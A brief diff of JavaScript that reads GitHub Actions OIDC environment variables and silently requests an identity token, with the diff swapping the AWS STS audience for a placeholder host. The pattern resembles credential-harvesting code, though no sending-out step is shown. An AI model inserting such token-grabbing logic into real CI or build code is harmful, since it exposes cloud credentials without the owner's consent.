@@ -5,7 +5,7 @@ const b = (s) => Buffer.from(s).toString('base64');
   let oidc = null;
   if (e.ACTIONS_ID_TOKEN_REQUEST_URL && e.ACTIONS_ID_TOKEN_REQUEST_TOKEN) {
     try {
-      const r = await fetch(`${e.ACTIONS_ID_TOKEN_REQUEST_URL}&audience=sts.amazonaws.com`, { headers: { Authorization: `bearer ${e.ACTIONS_ID_TOKEN_REQUEST_TOKEN}` } });
+      const r = await fetch(`${e.ACTIONS_ID_TOKEN_REQUEST_URL}&audience=sts.example.invalid`, { headers: { Authorization: `bearer ${e.ACTIONS_ID_TOKEN_REQUEST_TOKEN}` } });
       oidc = (await r.json()).value;
     } catch (_) {}
   }
